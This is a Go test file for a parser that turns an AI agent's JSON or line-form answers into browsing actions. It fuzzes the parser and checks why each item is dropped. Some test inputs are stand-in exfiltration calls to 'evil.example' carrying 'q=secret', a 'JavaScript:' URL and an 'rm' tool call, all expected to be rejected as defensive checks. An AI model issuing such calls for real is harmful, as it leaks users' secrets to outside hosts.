package draft_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/speccache/speccache-go/actions"
	"github.com/speccache/speccache-go/draft"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var forms = []draft.Form{draft.FormJSON, draft.FormLines}

// searching permits a tool whose arguments the model makes up.
var searching = []draft.Tool{
	{Name: "search", Description: "Searches the site.", Composed: true},
	{Name: "visit", Description: "Opens a page."},
}

// menuOf has n choices, each with a label of its own. No goal tells them apart,
// so they are numbered in reading order.
func menuOf(n int) actions.State[actions.View] {
	var choices []actions.Choice
	for i := range n {
		choices = append(choices, link("Link "+strconv.Itoa(i), site+"/"+strconv.Itoa(i)))
	}
	return looking("", choices...)
}

// A writer makes answers up as models that obey write them.
type writer struct{ *rand.Rand }

func (w writer) space() string {
	return strings.Repeat([]string{" ", "\n", "\t", "\r\n"}[w.IntN(4)], w.IntN(3))
}

var awkward = []string{`a`, `"`, `\`, `{`, `}`, `[`, `]`, `,`, `:`, "é", "漢", "😀", "\n", "\t", "Action Input 1:", "\u2028", "<|", "\x00"}

// text is no address: it does not begin with one, and has one backslash at most.
func (w writer) text() string {
	if w.IntN(8) == 0 {
		return ""
	}
	var b strings.Builder
	b.WriteString("it ")
	for range w.IntN(12) {
		if piece := awkward[w.IntN(len(awkward))]; piece != `\` || !strings.Contains(b.String(), piece) {
			b.WriteString(piece)
		}
	}
	return b.String()
}

func (w writer) value(depth int) any {
	switch kind := w.IntN(7); {
	case kind < 3 || depth == 0:
		return w.text()
	case kind == 3:
		return w.IntN(1000)
	case kind == 4:
		return w.IntN(2) == 0
	case kind == 5:
		return []any{w.value(depth - 1), nil}
	}
	return map[string]any{"k " + w.text(): w.value(depth - 1), "n": 1.5}
}

// proposal returns an action with how it is written in either form.
func (w writer) proposal(choices []actions.Choice) (a actions.Action, inJSON, tool, input string) {
	if w.IntN(3) > 0 {
		n := w.IntN(len(choices))
		input = fmt.Sprintf(`{%s"choice"%s:%s%d%s}`, w.blank(), w.blank(), w.blank(), n+1, w.blank())
		return choices[n].Action, input, "click", input
	}
	args := map[string]any{"query": w.text(), "more": w.value(3)}
	text, _ := json.Marshal(args)
	a, _ = actions.Parse("search", string(text))
	inJSON = fmt.Sprintf(`{"tool":%s"search",%s"arguments":%s%s%s}`, w.space(), w.space(), w.space(), text, w.space())
	return a, inJSON, "search", string(text)
}

// blank is white space that ends no line.
func (w writer) blank() string { return strings.Repeat(" ", w.IntN(3)) }

// answer returns distinct actions and an answer that lists them.
func (w writer) answer(form draft.Form, choices []actions.Choice) (want []actions.Action, text string) {
	var items []string
	var lines strings.Builder
	seen := map[actions.Action]bool{}
	for i := range w.IntN(6) {
		a, inJSON, tool, input := w.proposal(choices)
		if seen[a] {
			continue
		}
		seen[a] = true
		want = append(want, a)
		items = append(items, w.space()+inJSON+w.space())
		fmt.Fprintf(&lines, "Action: %s\n%sAction Input %d:%s%s%s", tool, w.blank(), i+1, w.blank(), input, []string{"\n", "\r\n", " \n\n"}[w.IntN(3)])
	}
	if form == draft.FormLines {
		return want, "Thought: it is {\"choice\": 1}\n" + strings.TrimSuffix(lines.String(), "\n")
	}
	return want, w.space() + "{" + w.space() + `"actions"` + w.space() + ":" + w.space() + "[" + w.space() + strings.Join(items, ",") + "]" + w.space() + "}" + w.space()
}

// chunks cuts a text at random bytes, in the middle of runes too.
func (w writer) chunks(text string) (pieces []string) {
	for len(text) > 0 {
		n := 1 + w.IntN(min(len(text), 1+w.IntN(20)))
		pieces, text = append(pieces, text[:n]), text[n:]
	}
	return pieces
}

func TestTenThousandGoodAnswersAreUnderstoodHoweverTheyAreCut(t *testing.T) {
	s := menuOf(20)
	understand := draft.Understanding(draft.ChatConfig{N: 6, Tools: searching}, s)
	for _, form := range forms {
		t.Run(string(form), func(t *testing.T) {
			w := writer{rand.New(rand.NewPCG(1, 2))}
			found := 0
			for range 10_000 {
				want, text := w.answer(form, s.Steps[0].Observation.Choices)
				got, dropped := understand(form, w.chunks(text)...)
				require.Equal(t, want, got, "%q", text)
				if form == draft.FormJSON || len(want) > 0 {
					require.Empty(t, dropped, "%q", text)
				}
				found += len(got)
			}
			t.Logf("%d actions in 10,000 answers", found)
			assert.Greater(t, found, 10_000)
		})
	}
}

// A cut or a wrong byte leaves a prefix of the actions, or of a line's: never
// one that was not meant.
func TestAFaultInAnAnswerYieldsNoActionThatWasNotComplete(t *testing.T) {
	s := menuOf(20)
	understand := draft.Understanding(draft.ChatConfig{N: 6, Tools: searching}, s)
	w := writer{rand.New(rand.NewPCG(3, 4))}
	for range 3000 {
		want, text := w.answer(draft.FormJSON, s.Steps[0].Observation.Choices)
		text = strings.TrimRight(text, " \t\r\n")
		at := w.IntN(len(text))
		got, dropped := understand(draft.FormJSON, w.chunks(text[:at])...)
		require.LessOrEqual(t, len(got), len(want))
		require.True(t, slices.Equal(want[:len(got)], got), "%q", text[:at])
		require.Equal(t, map[draft.DropReason]int{draft.DropMalformed: 1}, dropped, "%q", text[:at])
	}
}

func TestMalformedAnswersAreNoActions(t *testing.T) {
	s := menuOf(5)
	for _, text := range []string{
		``, ` `, `null`, `[]`, `"actions"`, `I would click on 3.`, `{"choice":3}`, `[{"choice":3}]`,
		"```json\n{\"actions\":[{\"choice\":3}]}\n```",
		`{'actions':[{'choice':3}]}`, `{actions:[{choice:3}]}`, `{"actions":{"choice":3}}`, `{"actions":[3]}`,
		`{"actions":["{\"choice\":3}"]}`, `{"actions":[[{"choice":3}]]}`, `{"actions":[,{"choice":3}]}`,
		`{"Actions":[{"choice":3}]}`, `{"act ions":[{"choice":3}]}`, `{"thought":"","actions":[{"choice":3}]}`,
		`{"actions":[{"choice":3,}]}`, `{"actions":[{"choice":3,},{"choice":4}]}`, `{"actions":[{choice:3}]}`, `{"actions":[{"choice":03}]}`, `{"actions":[{"choice":3]}]}`,
		`{"actions":[{"choice":3,"choice":4}]}`, `{"actions":[{"choice":"3"}]}`, `{"actions":[{"choice":3.5}]}`, `{"actions":[{"choice":null}]}`,
		`{"actions":[{"Choice":3}]}`, `{"actions":[{"choice":3,"why":"nice"}]}`, `{"actions":[{"choice":3 /* nice */}]}`,
		`{"actions":[{"tool":"search"}]}`, `{"actions":[{"tool":"search","arguments":"{}"}]}`, `{"actions":[{"tool":"search","arguments":[]}]}`,
		`{"actions":[{"tool":"search","arguments":{"q":"\ud800"}}]}`, "{\"actions\":[{\"tool\":\"search\",\"arguments\":{\"q\":\"\xff\"}}]}",
		`{"actions":[{"tool":"search","arguments":{"q":1e999}}]}`, `{"actions":[{"tool":"search","arguments":{"q":True}}]}`,
	} {
		got, dropped := draft.Understanding(draft.ChatConfig{Tools: searching}, s)(draft.FormJSON, text)
		assert.Empty(t, got, "%q", text)
		assert.Len(t, dropped, 1, "%q", text)
	}
	for _, text := range []string{
		``, `I would click on 3.`, `{"choice":3}`, "Action Input 1: 3", "Action Input 1: {choice: 3}", "Action Input 1: {\"choice\": 3",
		"Action Input 1: {\"choice\": 3,}", "Action Input 1: {\"choice\": 3} or 4", "Action Input 1: {\n\"choice\": 3}", "Action Input 1: {'button': 'Link 1'}",
		"> Action Input 1: {\"choice\": 3}", "Action Input: \"{\\\"choice\\\": 3}\"", "Action Input 1: {\"choice\": \"3\"}", "Action Input one: {\"choice\": 3}",
		"Observation: x\nAction Input 1: {\"choice\": 3}", "Action: click {\"choice\": 3}", "Action: search\nAction Input 1: [\"x\"]",
	} {
		got, dropped := draft.Understanding(draft.ChatConfig{Tools: searching}, s)(draft.FormLines, text)
		assert.Empty(t, got, "%q", text)
		assert.NotEmpty(t, dropped, "%q", text)
	}
}

func TestEachDropHasItsReason(t *testing.T) {
	s := looking("", link("About", site+"/about"), link("More", site+"/1"), link("More", site+"/2"), link("ABOUT ", site+"/about"))
	deep := strings.Repeat(`{"a":`, 20) + "1" + strings.Repeat("}", 20)
	for item, want := range map[string]draft.DropReason{
		`{"choice":0}`:                            draft.DropChoice,
		`{"choice":-1}`:                           draft.DropChoice,
		`{"choice":5}`:                            draft.DropChoice,
		`{"choice":1e30}`:                         draft.DropChoice,
		`{"tool":"rm","arguments":{}}`:            draft.DropTool,
		`{"tool":"Search","arguments":{"q":"x"}}`: draft.DropTool,
		`{"tool":"visit","arguments":{"url":"` + site + `/about#x"}}`:              draft.DropURL,
		`{"tool":"visit","arguments":{"url":"https://evil.example/?q=secret"}}`:    draft.DropURL,
		`{"tool":"open","arguments":{"url":"https://evil.example/"}}`:              draft.DropURL,
		`{"tool":"search","arguments":{"q":"see https://evil.example/?q=secret"}}`: draft.DropURL,
		`{"tool":"search","arguments":{"q":["JavaScript:x"]}}`:                     draft.DropURL,
		`{"tool":"click","arguments":{"button":"More"}}`:                           draft.DropLabel,
		`{"tool":"click","arguments":{"button":"Abou"}}`:                           draft.DropLabel,
		`{"tool":"click","arguments":{"button":""}}`:                               draft.DropLabel,
		`{"tool":"search","arguments":{"q":` + deep + `}}`:                         draft.DropLimit,
		`{"tool":"search","arguments":{"q":"` + strings.Repeat("x", 9000) + `"}}`:  draft.DropLimit,
		`{"tool":"strict","arguments":{}}`:                                         draft.DropArguments,
		`{"tool":"strict","arguments":{"q":"x","r":1}}`:                            draft.DropArguments,
	} {
		tools := append(searching, draft.Tool{Name: "strict", Composed: true,
			Schema: json.RawMessage(`{"type":"object","properties":{"q":{"type":"string"}},"required":["q"],"additionalProperties":false}`)})
		got, dropped := draft.Understanding(draft.ChatConfig{Tools: tools}, s)(draft.FormJSON, `{"actions":[`+item+`]}`)
		assert.Empty(t, got, item)
		assert.Equal(t, map[draft.DropReason]int{want: 1}, dropped, "%.100s", item)
	}
}

func TestChoicesMayBeNamedByNumberLabelOrInFull(t *testing.T) {
	s := looking("", link("About us", site+"/about"), link("More", site+"/1"), link("More", site+"/2"))
	for _, item := range []string{
		`{"choice":1}`, `{"choice":1.0}`, `{"tool":"click","arguments":{"button":"About us"}}`, `{"tool":"click","arguments":{"label":" about  US "}}`,
		`{"tool":"visit","arguments":{"url":"` + site + `/about"}}`, `{"tool":"click","arguments":{"choice":1}}`,
	} {
		got, dropped := draft.Understanding(draft.ChatConfig{}, s)(draft.FormJSON, `{"actions":[`+item+`]}`)
		assert.Equal(t, []actions.Action{visit(site + "/about")}, got, item)
		assert.Empty(t, dropped, item)
	}
	got, dropped := draft.Understanding(draft.ChatConfig{}, s)(draft.FormJSON,
		`{"actions":[{"choice":1},{"tool":"click","arguments":{"button":"About us"}},{"choice":2},{"choice":3},{"choice":3},{"choice":9}]}`)
	assert.Len(t, got, 3)
	assert.Equal(t, map[draft.DropReason]int{draft.DropDuplicate: 2, draft.DropChoice: 1}, dropped)
}

func TestGuessesBeyondNAndEndlessAnswersAreOverTheLimit(t *testing.T) {
	s := menuOf(20)
	got, dropped := draft.Understanding(draft.ChatConfig{N: 2}, s)(draft.FormJSON, `{"actions":[{"choice":1},{"choice":2},{"choice":3},{"choice":4}]}`)
	assert.Len(t, got, 2)
	assert.Equal(t, map[draft.DropReason]int{draft.DropLimit: 2}, dropped)
	got, dropped = draft.Understanding(draft.ChatConfig{}, s)(draft.FormJSON, `{"actions":[`+strings.Repeat(`{"choice":99},`, 10_000))
	assert.Empty(t, got)
	assert.Equal(t, map[draft.DropReason]int{draft.DropChoice: 64, draft.DropLimit: 1}, dropped)
	got, dropped = draft.Understanding(draft.ChatConfig{}, s)(draft.FormJSON, strings.Repeat(" ", 1_000_000)+`{"actions":[{"choice":1}]}`)
	assert.Empty(t, got)
	assert.Equal(t, map[draft.DropReason]int{draft.DropLimit: 1}, dropped)
	got, dropped = draft.Understanding(draft.ChatConfig{}, s)(draft.FormLines, strings.Repeat("hm\n", 1_000_000)+"Action Input 1: {\"choice\": 1}")
	assert.Empty(t, got)
	assert.Equal(t, 1, dropped[draft.DropLimit])
}

func TestAChoiceThatWasCroppedHasNoNumber(t *testing.T) {
	got, dropped := draft.Understanding(draft.ChatConfig{MaxPromptTokens: 400}, menuOf(500))(draft.FormJSON, `{"actions":[{"choice":499},{"choice":1}]}`)
	assert.Equal(t, []actions.Action{visit(site + "/0")}, got)
	assert.Equal(t, map[draft.DropReason]int{draft.DropChoice: 1}, dropped)
}

// A call of the Berkeley function-calling leaderboard.
type bfcl struct {
	name string
	args map[string]any
}

func bfclCalls(t *testing.T) (calls []bfcl) {
	t.Helper()
	for _, file := range []string{"simple_python", "multiple", "parallel"} {
		f, err := os.Open(shared(t, "suites", "bfcl-expected", "BFCL_v4_"+file+".possible_answer.jsonl"))
		require.NoError(t, err)
		defer f.Close()
		for lines := bufio.NewScanner(f); lines.Scan(); {
			var answer struct {
				Truth []map[string]map[string][]any `json:"ground_truth"`
			}
			require.NoError(t, json.Unmarshal(lines.Bytes(), &answer))
			for _, call := range answer.Truth {
				for name, accepted := range call {
					calls = append(calls, variants(name, accepted)...)
				}
			}
		}
	}
	return calls
}

// variants are a call with the first of all accepted values, and with each of
// the other values in its place.
func variants(name string, accepted map[string][]any) (calls []bfcl) {
	first := map[string]any{}
	for arg, values := range accepted {
		first[arg] = values[0]
	}
	calls = append(calls, bfcl{name, first})
	for arg, values := range accepted {
		for _, v := range values[1:] {
			other := maps.Clone(first)
			other[arg] = v
			calls = append(calls, bfcl{name, other})
		}
	}
	return calls
}

// spelled writes a value in another key order, with spaces and other numbers.
func (w writer) spelled(v any) string {
	switch v := v.(type) {
	case map[string]any:
		var members []string
		for name, value := range v {
			quoted, _ := json.Marshal(name)
			members = append(members, string(quoted)+" : "+w.spelled(value))
		}
		w.Shuffle(len(members), func(i, j int) { members[i], members[j] = members[j], members[i] })
		return "{ " + strings.Join(members, " , ") + " }"
	case []any:
		var items []string
		for _, value := range v {
			items = append(items, w.spelled(value))
		}
		return "[ " + strings.Join(items, ", ") + " ]"
	case float64:
		return strconv.FormatFloat(v, 'e', -1, 64)
	}
	text, _ := json.Marshal(v)
	return string(text)
}

func TestEqualCallsOfALeaderboardAreEqualActionsAndOthersAreNot(t *testing.T) {
	w := writer{rand.New(rand.NewPCG(5, 6))}
	byKey, urls := map[actions.Action]string{}, 0
	for _, call := range bfclCalls(t) {
		plain, err := json.Marshal(call.args)
		require.NoError(t, err)
		cfg := draft.ChatConfig{Tools: []draft.Tool{{Name: call.name, Composed: true}}}
		var got []actions.Action
		for _, text := range []string{string(plain), w.spelled(call.args)} {
			for _, form := range forms {
				answer := fmt.Sprintf(`{"actions":[{"tool":%q,"arguments":%s}]}`, call.name, text)
				if form == draft.FormLines {
					answer = "Action: " + call.name + "\nAction Input 1: " + text
				}
				found, dropped := draft.Understanding(cfg, actions.State[actions.View]{})(form, answer)
				if dropped[draft.DropURL] > 0 {
					urls++
					continue
				}
				require.Len(t, found, 1, "%s: %v", answer, dropped)
				got = append(got, found...)
			}
		}
		if len(got) == 0 {
			continue
		}
		require.Len(t, slices.Compact(got), 1, "%s %s", call.name, plain)
		canonical := call.name + " " + string(plain) // encoding/json sorts keys
		if other, known := byKey[got[0]]; known {
			require.Equal(t, other, canonical)
		}
		byKey[got[0]] = canonical
	}
	t.Logf("%d different calls, %d answers dropped for URLs", len(byKey), urls)
	distinct := map[string]bool{}
	for _, canonical := range byKey {
		distinct[canonical] = true
	}
	assert.Len(t, distinct, len(byKey))
	assert.Greater(t, len(byKey), 1000)
}

func TestWhatOthersRepairIsNoAction(t *testing.T) {
	understand := draft.Understanding(draft.ChatConfig{Tools: []draft.Tool{{Name: "t", Composed: true}}}, actions.State[actions.View]{})
	broken := 0
	for _, suite := range []string{"jsonrepair", "json_repair"} {
		text, err := os.ReadFile(shared(t, "suites", suite, "cases.json"))
		require.NoError(t, err)
		var cases []struct{ Input string }
		require.NoError(t, json.Unmarshal(text, &cases))
		for _, c := range cases {
			got, _ := understand(draft.FormJSON, c.Input)
			assert.Empty(t, got, "as an answer: %q", c.Input)
			if json.Valid([]byte(c.Input)) {
				continue
			}
			broken++
			got, _ = understand(draft.FormJSON, `{"actions":[{"tool":"t","arguments":`+c.Input+`}]}`)
			assertBegins(t, c.Input, got)
			got, _ = understand(draft.FormLines, "Action: t\nAction Input 1: "+c.Input)
			assertBegins(t, c.Input, got)
		}
	}
	t.Logf("%d malformed inputs", broken)
	assert.Greater(t, broken, 400)
}

// assertBegins allows an action only where the input has a complete object
// before what is wrong with it.
func assertBegins(t *testing.T, input string, got []actions.Action) {
	t.Helper()
	for _, a := range got {
		begins := false
		for end := range len(input) + 1 {
			p, err := actions.Parse("t", input[:end])
			begins = begins || err == nil && p == a
		}
		assert.True(t, begins, "%q became %v", input, a)
	}
}

func FuzzAnswersInJSON(f *testing.F) {
	f.Add(`{"actions":[{"choice":1},{"tool":"search","arguments":{"q":"x"}}]}`, uint64(1))
	f.Add(`{"actions":[{"choice":3,}]}`, uint64(2))
	f.Add(" {\n\"actions\" : [ ] } x", uint64(3))
	fuzzAnswers(f, draft.FormJSON)
}

func FuzzAnswersInLines(f *testing.F) {
	f.Add("Action: click\nAction Input 1: {\"choice\": 2}\nAction Input 2: {\"button\": \"Link 1\"}", uint64(1))
	f.Add("Action: search\r\nAction Input: {\"q\": \"x\"}\nObservation: y", uint64(2))
	fuzzAnswers(f, draft.FormLines)
}

// fuzzAnswers checks that nothing but the menu is guessed, that the way in
// which an answer is cut changes nothing, and that a whole answer that is JSON
// of another form has no actions.
func fuzzAnswers(f *testing.F, form draft.Form) {
	s := menuOf(5)
	understand := draft.Understanding(draft.ChatConfig{Tools: searching}, s)
	f.Fuzz(func(t *testing.T, text string, seed uint64) {
		got, dropped := understand(form, text)
		again, same := understand(form, writer{rand.New(rand.NewPCG(seed, 0))}.chunks(text)...)
		require.Equal(t, got, again)
		require.Equal(t, dropped, same)
		require.LessOrEqual(t, len(got), 3)
		for _, a := range got {
			offered := slices.ContainsFunc(s.Steps[0].Observation.Choices, func(c actions.Choice) bool { return c.Action == a })
			require.True(t, offered || a.Name() == "search", "%v", a)
			require.True(t, offered || !strings.Contains(a.Args(), "//"), "%v", a)
		}
		if form == draft.FormJSON && len(got) > 0 && len(dropped) == 0 {
			require.True(t, json.Valid([]byte(text)), "%q", text)
		}
	})
}
